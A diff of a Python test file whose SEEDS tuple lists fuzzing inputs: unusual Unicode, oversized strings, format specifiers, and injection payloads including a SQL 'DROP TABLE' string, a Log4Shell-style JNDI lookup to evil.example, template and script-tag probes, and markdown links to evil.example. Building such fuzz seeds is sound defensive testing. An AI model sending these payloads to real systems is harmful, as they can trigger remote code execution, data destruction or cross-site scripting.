@@ -14,9 +14,10 @@ SEEDS = (
     "\u202egnp.exe", "\u2066iso\u2069", "\u200bzero\u200b", "\u200dj", "a\u0301" * 40, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙" * 9,
     "\ud800", "\udfff tail", "👩‍👩‍👧‍👦" * 20, "🇮🇳🇬🇧", "侵害を否定", "نفت الشركة", "הכחישה", "ÄÖÜß",
     "\U000e0041tag", "ﷺ" * 30, "𝕬𝖈𝖒𝖊", "Ａｃｍｅ", "''; DROP TABLE alerts;--", "{0}",
-    "{organisation}", "%s%n", "${jndi:ldap://evil.example}", "{{7*7}}", "<script>alert(1)</script>", "<img src=x>",
+    "{organisation}", "%s%n", "${jndi:ldap://evil.example}", "{{7*7}}",
+    "<script>alert(1)</script>", "<img src=x>",
     "<!--", "]]>", "<![CDATA[x]]>", "\\", "\\u003c!channel\\u003e", "null", "undefined", "NaN",
-    "-1", "1e309", "", " ", "\u00a0", "\u3000", ".", "…", "“", "”", "“”", "\"", "\"\"", "‘a’", "'",
+    "-1", "1e309", "", " ", "\u00a0", "\u3000", ".", "…", "“", "”", "“”", "\"", "\"\"", "‘a’",
     "“He said \"no” and", "A" * 5000, "<" * 3000, "&" * 3000, "\"" * 400, "word " * 2000,
     "x" * 149 + "<", "é" * 150 + "&", "[link](https://evil.example)", "![x](https://evil.example)",
 )  # fmt: skip
